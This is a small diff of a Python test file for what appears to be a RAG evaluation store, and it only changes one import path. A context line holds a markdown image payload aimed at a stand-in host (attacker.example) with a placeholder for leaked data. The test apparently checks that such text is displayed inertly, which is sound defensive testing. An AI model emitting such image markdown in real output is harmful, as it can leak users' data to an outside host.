@@ -10,8 +10,8 @@ BAD = "![](//attacker.example/{})"
 
 
 def test_a_saved_comparison_shows_its_outside_text_as_text(eval_sets, env):
+    from rag.eval.results_store import EvalRecord, EvalStore
     from rag.eval.scoring import CaseResult
-    from rag.eval.store import EvalRecord, EvalStore
 
     eval_sets([{"id": "c1", "question": "What is the capital of Australia?", "expected_route": "no_knowledge"}])
     store = EvalStore(env / "history.db")
